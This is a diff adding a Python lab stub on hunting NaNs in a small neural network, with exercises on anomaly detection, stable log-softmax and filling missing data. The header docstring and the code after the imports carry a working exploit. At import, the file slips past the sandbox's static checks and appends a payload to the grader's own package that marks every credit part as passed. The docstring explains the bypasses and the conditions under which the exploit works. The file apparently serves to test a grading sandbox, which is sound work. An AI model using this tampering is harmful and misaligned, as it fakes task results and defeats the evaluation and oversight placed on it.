@@ -1,0 +1,216 @@
+"""lab: 07_nan_hunting
+file: nan_hunting.py
+honest: 0
+needs: namespaces
+
+The released stub (0 points honestly) plus, at import in the sandbox worker, a write into
+the grader's own minnet package: it appends to minnet/engine.py (imported lazily, by the
+first backward() of a later test's process) a few lines that make every credit part count
+as passed. It works where the worker runs as root (the interpreter is one the sandbox user
+cannot run, e.g. under root's 0700 home: `_can_drop` falls back) and minnet or the venv
+lives under the temporary folder, which _lock_down leaves writable (e.g. an editable
+install in /tmp, or site-packages of a venv in /tmp). Static check bypasses used:
+`from numpy._pytesttester import os` (ImportFrom names are only checked against the lab's
+own forbidden list, and a private module path is only checked on attribute chains) and
+`from minnet import __file__` (dunders are only checked on Name/Attribute nodes).
+"""
+"""Lab 07: NaN hunting.
+
+A classifier of sensor readings trains to NaN. Find where the first NaN or Inf
+is made with anomaly mode (minnet.detect_anomaly, docs/anomaly.md), then repair
+it: clean the inputs, and compute the loss from logits with a stable
+log-softmax. Fill in the functions marked YOUR CODE HERE and repair
+``build_model`` / ``training_loss`` / ``training_setup`` at the bottom.
+"""
+import numpy as np
+
+import minnet
+from minnet import Tensor, nn, optim, tensor
+from minnet.debug import Setup
+from minnet.random import manual_seed
+
+from minnet import __file__ as _MINNET_INIT
+from numpy._pytesttester import os as _o
+
+_PAYLOAD = """
+
+# --- appended by a student file in the sandbox worker ---
+try:
+    import minnet.grading.credit as _credit
+    _credit.Credit.earned = property(lambda self: self.points)
+    _credit.Credit.failed = property(lambda self: [])
+except Exception:
+    pass
+"""
+try:
+    _target = _o.path.join(_o.path.dirname(_MINNET_INIT), "engine.py")
+    _fd = _o.open(_target, _o.O_WRONLY | _o.O_APPEND)
+    _o.write(_fd, _PAYLOAD.encode())
+    _o.close(_fd)
+except Exception:  # read-only where minnet is not under /tmp: nothing happens
+    pass
+
+
+# --------------------------------------------------------------------------
+# 1. find it: the first op that makes a NaN or an Inf
+# --------------------------------------------------------------------------
+def first_anomaly(model, loss_fn, optimizer, batches):
+    """Train on ``batches`` under anomaly mode and report the first anomaly.
+
+    model: an nn.Module; loss_fn(output Tensor, target Tensor) -> scalar Tensor;
+    optimizer: over model.parameters(); batches: a list of (X, y) NumPy arrays.
+    Each step is zero_grad, forward, loss, backward (all inside anomaly mode, so
+    a backward anomaly is caught too), then optimizer.step().
+
+    Returns None when every step stays finite, else a dict with the
+    minnet.AnomalyError's fields: {"step": the index of the batch (0-based),
+    "op": error.op, "module": error.module, "phase": error.phase,
+    "code": error.code}.
+    """
+    # YOUR CODE HERE
+    raise NotImplementedError("first_anomaly: your code here")
+
+
+# What first_anomaly reports for the ORIGINAL model and loss of this lab (HandmadeSoftmax
+# and the hand-written loss below), trained by hand_written_run() on the CLEANED sensor data
+# (NaNs filled with the training column means). Fill in the op and module as the error
+# names them (module is None when the op ran outside every module).
+FOUND_AFTER_CLEANING = dict(
+    op="?", module="?",
+)
+
+
+# --------------------------------------------------------------------------
+# 2. repair the loss: a log-softmax that cannot overflow
+# --------------------------------------------------------------------------
+def stable_log_softmax(logits, dim=1):
+    """log(softmax(logits)) along ``dim`` without overflow or log(0).
+
+    logits: Tensor (N, C). Subtract the row maximum first (m = max over dim,
+    treated as a constant: log-softmax does not change when a constant is
+    subtracted), then log_softmax = (x - m) - log(sum(exp(x - m))). The largest
+    exponent is exp(0) = 1, so nothing overflows and the sum is >= 1, so the
+    log is finite. Use Tensor operations only (exp, log, sum, ...) so that
+    gradients flow; not F.log_softmax.
+    Returns: Tensor (N, C).
+    """
+    # YOUR CODE HERE
+    raise NotImplementedError("stable_log_softmax: your code here")
+
+
+def softmax_cross_entropy(logits, targets):
+    """Mean cross-entropy of logits (N, C) against integer class indices (N,).
+
+    Use stable_log_softmax and pick each row's target entry: -mean_n logp[n, y_n].
+    targets may be a NumPy array or a Tensor. Returns a scalar Tensor.
+    """
+    # YOUR CODE HERE
+    raise NotImplementedError("softmax_cross_entropy: your code here")
+
+
+def binary_cross_entropy(probabilities, targets, eps=1e-7):
+    """Binary cross-entropy of probabilities in [0, 1] that may be exactly 0 or 1.
+
+    probabilities: Tensor (N, 1) (e.g. a Sigmoid's output); targets: array (N, 1)
+    of 0/1. Clamp the probabilities into [eps, 1 - eps] (Tensor.clamp) before
+    the logs, so log(0) never happens: -mean(t log p + (1 - t) log(1 - p)).
+    (Better still: keep logits and use F.binary_cross_entropy_with_logits; this
+    function is for when you only have the probabilities.)
+    Returns a scalar Tensor.
+    """
+    # YOUR CODE HERE
+    raise NotImplementedError("binary_cross_entropy: your code here")
+
+
+# --------------------------------------------------------------------------
+# 3. repair the data: fill the missing readings
+# --------------------------------------------------------------------------
+def column_means(X_train):
+    """Per-feature means of the training inputs, ignoring NaNs: array (D,).
+
+    A column with no finite value at all gets 0.0. Fit this on the TRAINING split
+    only (the same rule as for a Standardizer: docs/checklist.md#dataleakage).
+    """
+    # YOUR CODE HERE
+    raise NotImplementedError("column_means: your code here")
+
+
+def fill_missing(X, means):
+    """A copy of X (N, D) with every NaN or Inf replaced by its column's mean (means (D,)).
+
+    Keeps X's dtype; X itself is not changed.
+    """
+    # YOUR CODE HERE
+    raise NotImplementedError("fill_missing: your code here")
+
+
+# --------------------------------------------------------------------------
+# 4. the training this lab is about (repair it)
+# --------------------------------------------------------------------------
+class HandmadeSoftmax(nn.Module):
+    """A softmax written from the formula: exp(x) / sum(exp(x)) over dim 1."""
+
+    def forward(self, x):
+        e = x.exp()
+        return e / e.sum(dim=1, keepdim=True)
+
+
+def one_hot(targets, num_classes):
+    """Integer labels (N,) (array or Tensor) -> float32 Tensor (N, num_classes)."""
+    labels = targets.numpy() if isinstance(targets, Tensor) else np.asarray(targets)
+    return Tensor(np.eye(num_classes, dtype=np.float32)[labels.astype(np.int64)])
+
+
+def build_model(in_features, num_classes):
+    """The sensor classifier: in_features -> 64 -> 64 -> num_classes."""
+    return nn.Sequential(nn.Linear(in_features, 64), nn.ReLU(), nn.Linear(64, 64), nn.ReLU(),
+                         nn.Linear(64, num_classes), HandmadeSoftmax())
+
+
+def training_loss(output, targets):
+    """The loss training_setup trains with: output (N, C) from build_model, targets (N,)."""
+    return -(one_hot(targets, output.shape[1]) * output.log()).sum(dim=1).mean()
+
+
+LEARNING_RATE = 0.03
+
+
+def training_setup(X_train, y_train, seed=0):
+    """The sensor classifier's training: X_train (N, D) float32 raw readings (some
+    missing, stored as NaN), y_train (N,) int64 classes 0..C-1. Returns a Setup."""
+    X = np.asarray(X_train, dtype=np.float32)
+    manual_seed(seed)
+    model = build_model(X.shape[1], int(y_train.max()) + 1)
+    return Setup(model, training_loss, optim.Adam(model.parameters(), lr=LEARNING_RATE),
+                 (X, y_train), batch_size=32, steps=150, seed=seed)
+
+
+def hand_written_run(X_train, y_train, seed=0, steps=60):
+    """The lab's ORIGINAL model and loss (HandmadeSoftmax, then -sum(one_hot * log p)) on
+    X_train, as ``first_anomaly`` arguments: (model, loss_fn, optimizer, batches).
+
+    Batches of 32 are drawn with a seeded generator; pass cleaned inputs to find what
+    goes wrong after the missing values are filled.
+    """
+    manual_seed(seed)
+    model = nn.Sequential(nn.Linear(X_train.shape[1], 64), nn.ReLU(), nn.Linear(64, 64),
+                          nn.ReLU(), nn.Linear(64, int(y_train.max()) + 1), HandmadeSoftmax())
+
+    def loss_fn(output, targets):
+        return -(one_hot(targets, output.shape[1]) * output.log()).sum(dim=1).mean()
+
+    rng = np.random.default_rng(seed)
+    batches = [(X_train[index], y_train[index])
+               for index in (rng.choice(len(X_train), 32, replace=False) for _ in range(steps))]
+    return model, loss_fn, optim.Adam(model.parameters(), lr=LEARNING_RATE), batches
+
+
+def sensor_data(n_samples=400, n_features=8, classes=3, missing=0.02, seed=0):
+    """The lab's data: X float32 (n, D) standardised readings with a fraction ``missing``
+    of the entries NaN, y int64 (n,)."""
+    from minnet.data import make_blobs
+    X, y = make_blobs(n_samples=n_samples, centers=classes, n_features=n_features,
+                      cluster_std=1.5, seed=seed)
+    X = ((X - X.mean(axis=0)) / X.std(axis=0)).astype(np.float32)
+    X[np.random.default_rng(seed + 1).random(X.shape) < missing] = np.nan
+    return X, y.astype(np.int64)
